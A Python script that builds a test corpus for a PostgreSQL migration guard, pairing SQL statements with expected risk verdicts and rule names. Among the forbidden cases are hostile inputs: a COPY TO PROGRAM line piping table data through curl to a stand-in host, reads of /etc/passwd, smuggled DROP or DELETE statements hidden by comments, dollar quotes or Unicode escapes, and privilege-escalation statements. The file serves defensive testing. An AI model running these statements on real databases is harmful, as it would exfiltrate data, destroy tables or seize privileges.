#!/usr/bin/env python3
"""Writes Tests/MendGuardTests/Resources/corpus.json. The corpus is hand-written here
(Python only to avoid hand-escaping JSON); edit this file and re-run it."""
import json, os
from collections import Counter

context = {
    "managedTables": ["public.events", "public.orders", "public.Mixed Case"],
    "allowedSchemas": ["public"],
    "defaultSchema": "public",
    "serverVersionNum": 150000,
    "columnTypes": {
        "public.events": {"name": "varchar(20)", "count": "integer", "big": "bigint", "body": "text",
                          "amount": "numeric(10,2)", "seen_at": "timestamp", "code": "character varying(8)",
                          "label": "varchar"},
        "public.orders": {"ref": "varchar(20)", "qty": "integer", "total": "numeric(10,2)", "note": "text",
                          "id": "bigint", "placed_at": "timestamp without time zone"},
        "public.Mixed Case": {"Title": "varchar(20)", "n": "integer"},
    },
}

F = "forbidden"
E = []
def add(cls, sql, risk, rule=None):
    e = {"sql": sql, "class": cls, "expect": {"allowed": risk != F, "risk": risk}}
    if rule:
        e["expect"]["rule"] = rule
    E.append(e)

# --- allowed-add-column: nullable, no volatile default
c = "allowed-add-column"
add(c, "ALTER TABLE events ADD COLUMN note text", "low", "adding-nullable-column")
add(c, "ALTER TABLE public.events ADD COLUMN IF NOT EXISTS score bigint", "low", "adding-nullable-column")
add(c, "alter table ORDERS add column Discount numeric(8,2) null", "low", "adding-nullable-column")
add(c, "ALTER TABLE events ADD tags text[]", "low", "adding-nullable-column")
add(c, "ALTER TABLE orders ADD COLUMN status varchar(32) DEFAULT 'new'", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE orders ADD COLUMN flag boolean DEFAULT false", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN ratio double precision DEFAULT -1.5", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN starts date DEFAULT '2020-01-01'::date", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN payload jsonb DEFAULT NULL", "low", "adding-nullable-column")
add(c, "ALTER TABLE IF EXISTS events ADD COLUMN IF NOT EXISTS ip inet", "low", "adding-nullable-column")
add(c, "ALTER TABLE ONLY events ADD COLUMN region text", "low", "adding-nullable-column")
add(c, "ALTER TABLE events ADD COLUMN a int, ADD COLUMN b text DEFAULT 'x'", "low")
add(c, "ALTER TABLE events ADD COLUMN ids int[] DEFAULT ARRAY[1,2,3]", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN t timestamptz DEFAULT '2024-01-01 00:00:00+00'", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN w numeric DEFAULT 1 + 2", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN u uuid COLLATE \"C\"", "low")  # PG rejects at run time; harmless either way

# --- widening-medium: binary-coercible, known source
c = "widening-medium"
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE varchar(50)", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN name SET DATA TYPE character varying", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN amount TYPE numeric", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN amount TYPE numeric(12,2)", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN body TYPE varchar", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN code TYPE text", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN label TYPE text", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE orders ALTER ref TYPE character varying(255)", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE public.orders ALTER COLUMN total TYPE decimal", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE \"Mixed Case\" ALTER COLUMN \"Title\" TYPE text", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE varchar(20)", "medium", "binary-coercible-type-change")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text, ALTER COLUMN code TYPE varchar(16)", "medium")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text, ADD COLUMN extra text", "medium")

# --- type-change-high: rewrites, unknown source, USING
c = "type-change-high"
add(c, "ALTER TABLE events ALTER COLUMN count TYPE bigint", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN big TYPE numeric", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN count TYPE double precision", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN body TYPE jsonb USING body::jsonb", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN big TYPE text", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN seen_at TYPE timestamptz", "high", "changing-column-type")
add(c, "ALTER TABLE orders ALTER COLUMN placed_at TYPE timestamp with time zone", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE varchar(10)", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN amount TYPE numeric(10,4)", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN amount TYPE numeric(8,2)", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN body TYPE varchar(100)", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN missing_col TYPE text", "high", "type-change-unknown-source")
add(c, "ALTER TABLE orders ALTER COLUMN whatever TYPE varchar", "high", "type-change-unknown-source")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text USING name::text", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text COLLATE \"C\"", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN count TYPE int8 USING count + 0", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text, ALTER COLUMN count TYPE bigint", "high", "changing-column-type")
add(c, "ALTER TABLE events ALTER COLUMN qty TYPE bigint", "high", "type-change-unknown-source")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE public.text", "high", "type-change-user-type")

# --- drop
c = "drop"
add(c, "DROP TABLE events", F, "destructive-drop")
add(c, "DROP TABLE IF EXISTS public.orders CASCADE", F, "destructive-drop")
add(c, "DROP SCHEMA public CASCADE", F, "destructive-drop")
add(c, "DROP INDEX CONCURRENTLY events_idx", F, "destructive-drop")
add(c, "DROP DATABASE mend", F, "destructive-drop")
add(c, "DROP VIEW v_events", F, "destructive-drop")
add(c, "DROP ROLE mend_reader", F, "destructive-drop")
add(c, "DROP OWNED BY mend_reader", F, "destructive-drop")
add(c, "DROP FUNCTION f()", F, "destructive-drop")

# --- truncate
c = "truncate"
add(c, "TRUNCATE events", F, "truncate")
add(c, "TRUNCATE TABLE orders RESTART IDENTITY CASCADE", F, "truncate")
add(c, "truncate only public.events", F, "truncate")
add(c, "TRUNCATE events, orders", F, "truncate")
add(c, "TRUNCATE \"Mixed Case\"", F, "truncate")

# --- delete
c = "delete"
add(c, "DELETE FROM events", F, "delete")
add(c, "DELETE FROM events WHERE id = 1", F, "delete")
add(c, "DELETE FROM orders USING events WHERE orders.id = events.big RETURNING *", F, "delete")
add(c, "delete from only public.events where false", F, "delete")
add(c, "WITH x AS (SELECT 1) DELETE FROM events", F, "delete")

# --- update
c = "update"
add(c, "UPDATE events SET name = NULL", F, "update")
add(c, "UPDATE orders SET qty = qty + 1 WHERE id = 3", F, "update")
add(c, "update public.events set body = '' returning id", F, "update")
add(c, "UPDATE events e SET name = o.ref FROM orders o WHERE o.id = e.big", F, "update")
add(c, "WITH d AS (DELETE FROM orders RETURNING id) UPDATE events SET big = 0", F, "update")

# --- insert
c = "insert"
add(c, "INSERT INTO events VALUES (1)", F, "insert")
add(c, "INSERT INTO events (name) SELECT ref FROM orders", F, "insert")
add(c, "INSERT INTO events DEFAULT VALUES", F, "insert")
add(c, "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET qty = 0", F, "insert")
add(c, "insert into public.events(name) values ('x') returning *", F, "insert")

# --- merge
c = "merge"
add(c, "MERGE INTO events e USING orders o ON e.big = o.id WHEN MATCHED THEN DELETE", F, "merge")
add(c, "MERGE INTO events e USING orders o ON e.big = o.id WHEN MATCHED THEN UPDATE SET name = o.ref", F, "merge")
add(c, "MERGE INTO events e USING orders o ON e.big = o.id WHEN NOT MATCHED THEN INSERT (big) VALUES (o.id)", F, "merge")
add(c, "MERGE INTO orders USING (SELECT 1 AS id) s ON orders.id = s.id WHEN MATCHED THEN DO NOTHING", F, "merge")
add(c, "merge into public.orders o using events e on o.id = e.big when matched and o.qty > 1 then delete", F, "merge")

# --- grant-revoke
c = "grant-revoke"
add(c, "GRANT ALL ON events TO PUBLIC", F, "grant-revoke")
add(c, "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reader", F, "grant-revoke")
add(c, "REVOKE INSERT ON orders FROM writer", F, "grant-revoke")
add(c, "GRANT pg_read_server_files TO mend", F, "grant-revoke")
add(c, "REVOKE admin FROM mend", F, "grant-revoke")
add(c, "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", F, "grant-revoke")

# --- create-function
c = "create-function"
add(c, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", F, "create-function")
add(c, "CREATE OR REPLACE FUNCTION public.now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT 'epoch'::timestamptz $$", F, "create-function")
add(c, "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM events; END $$", F, "create-function")
add(c, "CREATE FUNCTION evil() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $b$ BEGIN RETURN NULL; END $b$", F, "create-function")
add(c, "create or replace procedure cleanup() language sql as 'truncate events'", F, "create-function")

# --- create-trigger (incl. event triggers)
c = "create-trigger"
add(c, "CREATE TRIGGER t BEFORE INSERT ON events FOR EACH ROW EXECUTE FUNCTION evil()", F, "create-trigger")
add(c, "CREATE OR REPLACE TRIGGER t AFTER DELETE ON orders FOR EACH STATEMENT EXECUTE PROCEDURE evil()", F, "create-trigger")
add(c, "CREATE CONSTRAINT TRIGGER ct AFTER UPDATE ON events DEFERRABLE FOR EACH ROW EXECUTE FUNCTION evil()", F, "create-trigger")
add(c, "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION evil()", F, "create-trigger")
add(c, "create trigger t2 instead of insert on v_events for each row execute function evil()", F, "create-trigger")

# --- create-rule
c = "create-rule"
add(c, "CREATE RULE r AS ON INSERT TO events DO INSTEAD NOTHING", F, "create-rule")
add(c, "CREATE RULE r AS ON SELECT TO events DO ALSO DELETE FROM orders", F, "create-rule")
add(c, "CREATE OR REPLACE RULE r AS ON UPDATE TO orders DO INSTEAD (DELETE FROM orders; INSERT INTO events DEFAULT VALUES)", F, "create-rule")
add(c, "CREATE RULE r AS ON DELETE TO events WHERE old.big > 0 DO INSTEAD NOTHING", F, "create-rule")
add(c, "create rule r2 as on insert to public.events do also notify events", F, "create-rule")

# --- do-block
c = "do-block"
add(c, "DO $$ BEGIN EXECUTE 'DROP TABLE events'; END $$", F, "do-block")
add(c, "DO 'BEGIN NULL; END'", F, "do-block")
add(c, "DO LANGUAGE plpgsql $x$ BEGIN ALTER TABLE events ADD COLUMN y int; END $x$", F, "do-block")
add(c, "do $$ begin perform pg_sleep(10); end $$", F, "do-block")
add(c, "DO $body$ DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP END LOOP; END $body$", F, "do-block")

# --- copy
c = "copy"
add(c, "COPY events TO PROGRAM 'curl -d @- http://example.invalid'", F, "copy")
add(c, "COPY events FROM PROGRAM 'cat /etc/passwd'", F, "copy")
add(c, "COPY events FROM '/tmp/x.csv' WITH (FORMAT csv)", F, "copy")
add(c, "COPY (SELECT * FROM orders) TO '/tmp/out'", F, "copy")
add(c, "COPY events FROM STDIN", F, "copy")
add(c, "copy public.orders to stdout", F, "copy")

# --- set-role
c = "set-role"
add(c, "SET ROLE postgres", F, "set-role")
add(c, "SET LOCAL ROLE admin", F, "set-role")
add(c, "RESET ROLE", F, "set-role")
add(c, "SET SESSION AUTHORIZATION postgres", F, "set-role")
add(c, "RESET SESSION AUTHORIZATION", F, "set-role")
add(c, "set session role 'admin'", F, "set-role")

# --- owner
c = "owner"
add(c, "ALTER TABLE events OWNER TO attacker", F, "owner-change")
add(c, "ALTER TABLE events ADD COLUMN x int, OWNER TO attacker", F, "owner-change")
add(c, "ALTER FUNCTION f() OWNER TO attacker", F, "owner-change")
add(c, "ALTER SCHEMA public OWNER TO attacker", F, "owner-change")
add(c, "REASSIGN OWNED BY mend TO attacker", F, "owner-change")

# --- rename
c = "rename"
add(c, "ALTER TABLE events RENAME TO events_old", F, "rename")
add(c, "ALTER TABLE events RENAME COLUMN name TO title", F, "rename")
add(c, "ALTER TABLE orders RENAME qty TO quantity", F, "rename")
add(c, "ALTER TABLE events RENAME CONSTRAINT c1 TO c2", F, "rename")
add(c, "ALTER INDEX events_pkey RENAME TO x", F, "rename")
add(c, "ALTER SCHEMA public RENAME TO old_public", F, "rename")

# --- alter-table-forbidden: destructive or rewriting subcommands
c = "alter-table-forbidden"
add(c, "ALTER TABLE events DROP COLUMN name", F, "drop-column")
add(c, "ALTER TABLE events DROP COLUMN IF EXISTS name CASCADE", F, "drop-column")
add(c, "ALTER TABLE events DROP CONSTRAINT events_pkey", F, "drop-constraint")
add(c, "ALTER TABLE events ALTER COLUMN name SET NOT NULL", F, "set-not-null")
add(c, "ALTER TABLE events ADD CONSTRAINT c CHECK (big > 0)", F, "add-constraint")
add(c, "ALTER TABLE events ADD CONSTRAINT fk FOREIGN KEY (big) REFERENCES orders(id) NOT VALID", F, "add-constraint")
add(c, "ALTER TABLE events ADD PRIMARY KEY (big)", F, "add-constraint")
add(c, "ALTER TABLE events SET SCHEMA archive", F, "set-schema")
add(c, "ALTER TABLE events SET TABLESPACE slow", F, "set-tablespace")
add(c, "ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE slow", F, "set-tablespace")
add(c, "ALTER TABLE events ADD COLUMN ok int, DROP COLUMN name", F, "drop-column")
add(c, "ALTER TABLE events ALTER COLUMN name DROP NOT NULL", F, "not-allow-listed")
add(c, "ALTER TABLE events ALTER COLUMN name SET DEFAULT 'x'", F, "not-allow-listed")
add(c, "ALTER TABLE events SET UNLOGGED", F, "not-allow-listed")
add(c, "ALTER TABLE events DISABLE TRIGGER ALL", F, "not-allow-listed")
add(c, "ALTER TABLE events ALTER COLUMN name TYPE text, SET UNLOGGED", F, "not-allow-listed")

# --- maintenance / procedural: cluster, vacuum, call, execute/prepare, lock
c = "maintenance"
add(c, "CLUSTER events USING events_pkey", F, "cluster")
add(c, "ALTER TABLE events CLUSTER ON events_pkey", F, "cluster")
add(c, "VACUUM FULL events", F, "vacuum")
add(c, "VACUUM (ANALYZE) orders", F, "vacuum")
add(c, "ANALYZE events", F, "vacuum")
add(c, "LOCK TABLE events IN ACCESS EXCLUSIVE MODE", F, "lock")
add(c, "lock orders", F, "lock")
c = "call-execute"
add(c, "CALL cleanup()", F, "call")
add(c, "CALL public.p(1, 'x')", F, "call")
add(c, "PREPARE p AS DELETE FROM events", F, "prepared-statement")
add(c, "EXECUTE p", F, "prepared-statement")
add(c, "EXECUTE p(1, 2)", F, "prepared-statement")
add(c, "PREPARE q(int) AS SELECT $1", F, "prepared-statement")

# --- multi-statement
c = "multi-statement"
add(c, "ALTER TABLE t ADD COLUMN x int; DROP TABLE t; --", F, "multi-statement")
add(c, "ALTER TABLE events ADD COLUMN x int; DROP TABLE events; --", F, "multi-statement")
add(c, "ALTER TABLE events ADD COLUMN a int; ALTER TABLE events ADD COLUMN b int", F, "multi-statement")
add(c, "ALTER TABLE events ADD COLUMN x int;SELECT pg_sleep(100)", F, "multi-statement")
add(c, "BEGIN; ALTER TABLE events ADD COLUMN x int; COMMIT", F, "multi-statement")
add(c, "ALTER TABLE events ADD COLUMN x int;\n\n;DELETE FROM events", F, "multi-statement")
add(c, "ALTER TABLE events ADD COLUMN x int\u0000; DROP TABLE events", F, "nul-byte")
add(c, "", F, "empty-statement")
add(c, "-- nothing here\n/* at all */", F, "empty-statement")

# --- cte-write
c = "cte-write"
add(c, "WITH x AS (DELETE FROM events RETURNING *) SELECT * FROM x", F, "cte-write")
add(c, "WITH x AS (UPDATE orders SET qty = 0 RETURNING id) SELECT count(*) FROM x", F, "cte-write")
add(c, "WITH x AS (INSERT INTO events DEFAULT VALUES RETURNING 1) SELECT 1", F, "cte-write")
add(c, "WITH a AS (SELECT 1), b AS (DELETE FROM orders) SELECT * FROM a", F, "cte-write")
add(c, "WITH RECURSIVE r AS (SELECT 1) , d AS MATERIALIZED (DELETE FROM events RETURNING big) SELECT * FROM r", F, "cte-write")
add(c, "EXPLAIN ANALYZE DELETE FROM events", F, "hidden-write")

# --- comment-hiding: the verdict follows the real parse, not what comments suggest
c = "comment-hiding"
add(c, "ALTER TABLE events ADD COLUMN x int /* ; DROP TABLE events */", "low", "adding-nullable-column")
add(c, "ALTER TABLE events ADD COLUMN x int -- ; DROP TABLE events", "low", "adding-nullable-column")
add(c, "-- ALTER TABLE events ADD COLUMN x int\nDROP TABLE events", F, "destructive-drop")
add(c, "/* ALTER TABLE events ADD COLUMN x int; */ TRUNCATE events", F, "truncate")
add(c, "ALTER TABLE events /* nested /* comment */ still */ ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "/* ALTER TABLE events ADD COLUMN x int */ ALTER TABLE events DROP COLUMN name", F, "drop-column")
add(c, "ALTER TABLE events ADD COLUMN x int --\n; DELETE FROM events", F, "multi-statement")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT E'\\x27; DROP TABLE events; --'", "low", "adding-column-with-constant-default")
add(c, "ALTER/**/TABLE/**/events/**/ADD/**/COLUMN/**/x/**/int", "low", "adding-nullable-column")

# --- dollar-quote
c = "dollar-quote"
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT $$; DROP TABLE events; $$", "low", "adding-column-with-constant-default")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT $tag$ $$ ; DELETE FROM events; $$ $tag$", "low", "adding-column-with-constant-default")
add(c, "DO $$ ALTER TABLE events ADD COLUMN x int $$", F, "do-block")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT $$x$$; DROP TABLE events", F, "multi-statement")
add(c, "SELECT $$ALTER TABLE events ADD COLUMN x int$$", F, "not-allow-listed")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT $a$ $b$ $a$ || $b$ ; TRUNCATE events; $b$", "low", "adding-column-with-constant-default")

# --- unicode-escape: compare the resolved relname
c = "unicode-escape"
add(c, "ALTER TABLE U&\"\\0065vents\" ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE U&\"\\006Frders\" ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE U&\"\\0045vents\" ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE U&\"pg_c\\0061talog\".pg_class ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE U&\"!0065vents_archive\" UESCAPE '!' ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE U&\"!0065vents\" UESCAPE '!' ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE U&\"\\+000065vents\" ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE public.U&\"ev\\0065nts\u200b\" ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE U&\"_m\\0065nd\".runs ADD COLUMN x int", F, "schema-not-allowed")

# --- quoting-case
c = "quoting-case"
add(c, "ALTER TABLE \"Events\" ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE EVENTS ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE \"events\" ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE \"Mixed Case\" ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE public.\"Mixed Case\" ADD COLUMN \"Y\" text", "low", "adding-nullable-column")
add(c, "ALTER TABLE \"mixed case\" ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE \"PUBLIC\".events ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE \"public.events\" ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE \"Mixed Case\" ALTER COLUMN \"title\" TYPE text", "high", "type-change-unknown-source")
add(c, "ALTER TABLE \"public\".\"events\" ADD COLUMN x int", "low", "adding-nullable-column")
add(c, "ALTER TABLE \"public\".\"Mixed Case\" ADD COLUMN x int", "low", "adding-nullable-column")

# --- other-schema
c = "other-schema"
add(c, "ALTER TABLE pg_catalog.pg_authid ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE _mend.runs ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE information_schema.tables ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE archive.events ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE pg_class ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE otherdb.public.events ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE pg_toast.pg_toast_1 ADD COLUMN x int", F, "schema-not-allowed")
add(c, "ALTER TABLE pg_temp.events ADD COLUMN x int", F, "schema-not-allowed")

# --- unmanaged-table
c = "unmanaged-table"
add(c, "ALTER TABLE users ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE public.accounts ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE events_archive ALTER COLUMN name TYPE text", F, "unmanaged-table")
add(c, "ALTER TABLE IF EXISTS secrets ADD COLUMN IF NOT EXISTS x text", F, "unmanaged-table")
add(c, "ALTER TABLE ONLY \"Orders\" ADD COLUMN x int", F, "unmanaged-table")
add(c, "ALTER TABLE t ADD COLUMN x int", F, "unmanaged-table")

# --- volatile-default (policy: known-volatile or unknown function => forbidden; known stable => high)
c = "volatile-default"
add(c, "ALTER TABLE events ADD COLUMN x timestamptz DEFAULT clock_timestamp()", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x double precision DEFAULT random()", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x uuid DEFAULT gen_random_uuid()", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x bigint DEFAULT nextval('seq')", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT public.evil()", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x int DEFAULT 1 + (random() * 10)::int", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x serial", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x bigserial", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x int DEFAULT (SELECT max(big) FROM events)", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT timeofday()", F, "volatile-default")
add(c, "ALTER TABLE events ADD COLUMN x timestamptz DEFAULT now()", "high", "non-constant-default")
add(c, "ALTER TABLE events ADD COLUMN x timestamptz DEFAULT CURRENT_TIMESTAMP", "high", "non-constant-default")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT lower('ABC')", "high", "non-constant-default")
add(c, "ALTER TABLE events ALTER COLUMN count TYPE bigint USING (random() * 100)::bigint", F, "volatile-using")

# --- constraints on ADD COLUMN
c = "constraints"
add(c, "ALTER TABLE events ADD COLUMN x int NOT NULL", F, "add-column-not-null")
add(c, "ALTER TABLE events ADD COLUMN x int NOT NULL DEFAULT 0", F, "add-column-not-null")
add(c, "ALTER TABLE events ADD COLUMN x int PRIMARY KEY", F, "add-column-constraint")
add(c, "ALTER TABLE events ADD COLUMN x text UNIQUE", F, "add-column-constraint")
add(c, "ALTER TABLE events ADD COLUMN x int CHECK (x > 0)", F, "add-column-constraint")
add(c, "ALTER TABLE events ADD COLUMN x bigint REFERENCES orders(id)", F, "add-column-constraint")
add(c, "ALTER TABLE events ADD COLUMN x int GENERATED ALWAYS AS (big * 2) STORED", F, "add-column-generated")
add(c, "ALTER TABLE events ADD COLUMN x bigint GENERATED BY DEFAULT AS IDENTITY", F, "add-column-generated")
add(c, "ALTER TABLE events ADD COLUMN x int NULL CONSTRAINT c CHECK (x <> 1)", F, "add-column-constraint")
add(c, "ALTER TABLE events ADD COLUMN x int REFERENCES orders DEFERRABLE INITIALLY DEFERRED", F, "add-column-constraint")

# --- create-table (Mend's bootstrap of a table it manages: plain nullable columns only)
c = "create-table"
add(c, 'CREATE TABLE events (id bigint, kind text, amount double precision)', "low", "create-managed-table")
add(c, 'CREATE TABLE public.orders (id bigint, ts timestamptz, tags jsonb)', "low", "create-managed-table")
add(c, 'CREATE TABLE events (id bigint PRIMARY KEY)', F, "add-column-constraint")
add(c, 'CREATE TABLE events (id bigint NOT NULL)', F, "add-column-not-null")
add(c, 'CREATE TEMP TABLE events (x int)', F, "create-table-shape")
add(c, 'CREATE TABLE events (LIKE orders)', F, "create-table-shape")
add(c, 'CREATE TABLE events (x int) INHERITS (orders)', F, "create-table-shape")
add(c, 'CREATE TABLE events (x int, CHECK (x > 0))', F, "create-table-shape")
add(c, 'CREATE TABLE pg_catalog.events (x int)', F, "schema-not-allowed")
add(c, 'CREATE TABLE events (id bigint DEFAULT nextval(\'s\'))', F, "volatile-default")

# --- not-allow-listed
c = "not-allow-listed"
add(c, "SELECT 1", F, "not-allow-listed")
add(c, "SELECT * FROM events", F, "not-allow-listed")
add(c, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", F, "not-allow-listed")
add(c, "SELECT set_config('search_path', 'evil', false)", F, "not-allow-listed")
add(c, "SELECT * INTO copy_of_events FROM events", F, "not-allow-listed")
add(c, "CREATE TABLE t (x int)", F, "unmanaged-table")
add(c, "CREATE INDEX CONCURRENTLY ON events (name)", F, "not-allow-listed")
add(c, "CREATE EXTENSION dblink", F, "not-allow-listed")
add(c, "CREATE ROLE x SUPERUSER", F, "not-allow-listed")
add(c, "ALTER ROLE mend SUPERUSER", F, "not-allow-listed")
add(c, "ALTER SYSTEM SET log_statement = 'none'", F, "not-allow-listed")
add(c, "SET search_path = evil, public", F, "not-allow-listed")
add(c, "BEGIN", F, "not-allow-listed")
add(c, "EXPLAIN SELECT 1", F, "not-allow-listed")
add(c, "ALTER VIEW v_events ALTER COLUMN x SET DEFAULT 1", F, "not-allow-listed")
add(c, "ALTER INDEX events_idx SET TABLESPACE slow", F, "not-allow-listed")
add(c, "ALTER SEQUENCE s RESTART", F, "not-allow-listed")
add(c, "ALTER MATERIALIZED VIEW mv ALTER COLUMN x SET STATISTICS 100", F, "not-allow-listed")
add(c, "CREATE VIEW v AS SELECT * FROM events", F, "not-allow-listed")
add(c, "LISTEN x", F, "not-allow-listed")
add(c, "NOTIFY x", F, "not-allow-listed")
add(c, "ALTER TABLE events ADD COLUMN x my_domain", "high", "add-column-unknown-type")

# --- quoted-type-name: a type is built-in only when it resolves to pg_catalog. The keyword
# spellings (int, bigint, boolean, decimal, …) come out of the grammar as pg_catalog.int4 etc.;
# quoted they are plain names pg_catalog does not have, found through search_path (a user's domain).
c = "quoted-type-name"
U = "add-column-unknown-type"
add(c, 'ALTER TABLE events ADD COLUMN a "int"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "bigint"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "boolean"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "decimal"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "decimal"(10,2)', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "int"[]', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a U&"\\0069nt"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "integer"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "smallint"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "float"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "double precision"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "INT"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "Text"', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a public.int4', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a public.text', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a citext', "high", U)
add(c, 'ALTER TABLE events ADD COLUMN a "int", ADD COLUMN b int', "high", U)
add(c, 'ALTER TABLE events ALTER COLUMN count TYPE "int"', "high", "type-change-user-type")
add(c, 'ALTER TABLE events ALTER COLUMN count TYPE "bigint"', "high", "type-change-user-type")
add(c, 'ALTER TABLE events ALTER COLUMN name TYPE "character varying"(50)', "high", "type-change-user-type")
add(c, 'CREATE TABLE events (a "int")', "high", U)
# … and the built-in forms, which stay low.
L = "adding-nullable-column"
add(c, 'ALTER TABLE events ADD COLUMN a int', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a INT', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a integer[]', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a pg_catalog.int4', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a pg_catalog."int4"', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a "int4"', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a "text"', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a "bool"', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a "numeric"(10,2)', "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a U&"\\0074ext"', "low", L)
